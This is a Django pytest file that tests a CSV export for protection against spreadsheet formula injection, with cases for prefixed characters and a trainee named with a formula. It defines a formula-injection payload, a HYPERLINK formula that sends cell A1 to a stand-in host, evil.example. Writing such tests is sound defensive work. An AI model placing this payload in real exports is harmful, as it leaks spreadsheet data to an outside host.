"""CSV exports a spreadsheet opens safely: counts in their own columns, no formulas."""

import csv
import io

import pytest
from django.urls import reverse

from courses import services
from courses.exports import safe_cell
from tests.factories import make_user

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def export(client, people):
    client.force_login(people.tom)
    response = client.get(reverse("cohort_export", args=[people.cohort_a.pk]))
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+81 90", "'+81 90"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("佐藤 花子", "佐藤 花子"),
        ("a=b", "a=b"),
        (-120, -120),
        (1.5, 1.5),
    ],
)
def test_it_neutralises_cells_that_would_run_as_formulas(value, written):
    assert safe_cell(value) == written


@pytest.mark.django_db
def test_it_exports_a_trainee_named_like_a_formula_as_text(client, people):
    mallory = make_user("mallory", "受講者", last_name=HYPERLINK, first_name="@x")
    mallory.email = "-mallory@example.org"
    mallory.save()
    services.enrol(mallory, people.course, cohort=people.cohort_a, by=people.tom)
    row = next(row for row in export(client, people) if "mallory" in row[1])
    assert row[0] == "'" + HYPERLINK + " @x"
    assert row[1] == "'-mallory@example.org"


@pytest.mark.django_db
def test_it_writes_done_and_total_lessons_in_separate_columns(client, people):
    services.complete_lesson(people.alice, people.lessons[0])
    rows = export(client, people)
    alice = next(row for row in rows if row[1] == "alice@example.org")
    assert alice[2:6] == ["1", "2", "0", "2"]
    assert not any("/" in cell for row in rows for cell in row)
